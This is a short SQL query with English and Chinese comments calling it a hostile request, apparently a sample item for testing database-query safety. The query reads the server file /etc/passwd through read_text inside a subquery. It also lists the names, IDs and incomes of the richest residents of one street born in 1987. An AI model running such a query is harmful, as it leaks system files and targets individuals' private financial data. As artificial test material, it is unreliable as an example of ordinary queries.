-- en: A hostile question: who are the richest residents, and what is in a file of the server?
-- zh: 恶意查询：谁是收入最高的居民？服务器文件里有什么？
SELECT name, person_id, income, (SELECT content FROM read_text('/etc/passwd'))
FROM residents
WHERE birth_year = 1987 AND street = '八大关街道'
ORDER BY income DESC
LIMIT 10
